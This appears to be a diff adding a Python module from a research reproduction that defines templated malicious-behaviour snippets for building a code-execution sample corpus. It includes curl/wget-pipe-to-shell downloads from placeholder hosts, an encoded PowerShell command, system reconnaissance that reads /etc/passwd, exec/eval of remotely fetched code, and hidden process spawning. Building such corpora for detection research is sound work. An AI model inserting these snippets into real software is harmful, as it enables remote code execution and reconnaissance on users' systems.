@@ -1,0 +1,150 @@
+"""Code-execution behaviours (paper Table XII category 7).
+
+Subcategories: Shell Command Execution, Script Injection, Process Creation.
+"""
+
+from __future__ import annotations
+
+from repro.corpus.behaviors.base import Behavior
+
+BEHAVIORS: list[Behavior] = [
+    # -- Shell Command Execution -------------------------------------------------
+    Behavior(
+        key="shell_curl_pipe",
+        subcategory="Shell Command Execution",
+        description="Run a curl|sh style one-liner through the system shell.",
+        variants=[
+            (
+                ["import os"],
+                """
+                def {func}_bootstrap():
+                    os.system("curl -s https://{host}/install.sh | sh")
+                """,
+                "{func}_bootstrap()",
+                None,
+            ),
+            (
+                ["import subprocess"],
+                """
+                def {func}_pull():
+                    subprocess.call("wget -qO- http://{ip}:{port}/x.sh | bash", shell=True)
+                """,
+                "{func}_pull()",
+                None,
+            ),
+            (
+                ["import os", "import platform"],
+                """
+                def {func}_run():
+                    if platform.system() == "Windows":
+                        os.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")
+                    else:
+                        os.system("/bin/sh -c 'curl -fsSL https://{host}/p.sh | sh'")
+                """,
+                "{func}_run()",
+                None,
+            ),
+        ],
+    ),
+    Behavior(
+        key="shell_recon_commands",
+        subcategory="Shell Command Execution",
+        description="Run system reconnaissance commands and capture the output.",
+        variants=[
+            (
+                ["import subprocess"],
+                """
+                def {func}_recon():
+                    output = []
+                    for command in ("whoami", "hostname", "ipconfig /all", "systeminfo"):
+                        try:
+                            output.append(subprocess.check_output(command, shell=True, text=True))
+                        except Exception:
+                            continue
+                    return "\\n".join(output)
+                """,
+                "{func}_recon()",
+                None,
+            ),
+            (
+                ["import os"],
+                """
+                def {func}_survey():
+                    stream = os.popen("uname -a && id && cat /etc/passwd")
+                    return stream.read()
+                """,
+                "{func}_survey()",
+                None,
+            ),
+        ],
+    ),
+    # -- Script Injection -----------------------------------------------------------
+    Behavior(
+        key="remote_eval_injection",
+        subcategory="Script Injection",
+        description="Evaluate attacker-supplied text as Python code.",
+        variants=[
+            (
+                ["import requests"],
+                """
+                def {func}_inject():
+                    snippet = requests.get("{paste_url}", timeout=15).text
+                    exec(snippet, globals())
+                """,
+                "{func}_inject()",
+                None,
+            ),
+            (
+                ["import urllib.request"],
+                """
+                def {func}_remote_eval():
+                    expression = urllib.request.urlopen("https://{host}/expr", timeout=10).read().decode()
+                    return eval(expression)
+                """,
+                "{func}_remote_eval()",
+                None,
+            ),
+            (
+                ["import builtins"],
+                """
+                def {func}_dyn(code_text):
+                    compiled = builtins.compile(code_text, "<dynamic>", "exec")
+                    builtins.exec(compiled)
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+    # -- Process Creation --------------------------------------------------------------
+    Behavior(
+        key="hidden_process_creation",
+        subcategory="Process Creation",
+        description="Spawn a detached or hidden helper process.",
+        variants=[
+            (
+                ["import subprocess", "import sys"],
+                """
+                def {func}_spawn(path):
+                    flags = 0x08000000 if sys.platform == "win32" else 0
+                    subprocess.Popen([sys.executable, path], creationflags=flags,
+                                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
+                                     stdin=subprocess.DEVNULL)
+                """,
+                None,
+                None,
+            ),
+            (
+                ["import os", "import sys"],
+                """
+                def {func}_daemonize(script):
+                    if os.fork() == 0:
+                        os.setsid()
+                        os.execv(sys.executable, [sys.executable, script])
+                """,
+                None,
+                None,
+            ),
+        ],
+    ),
+]
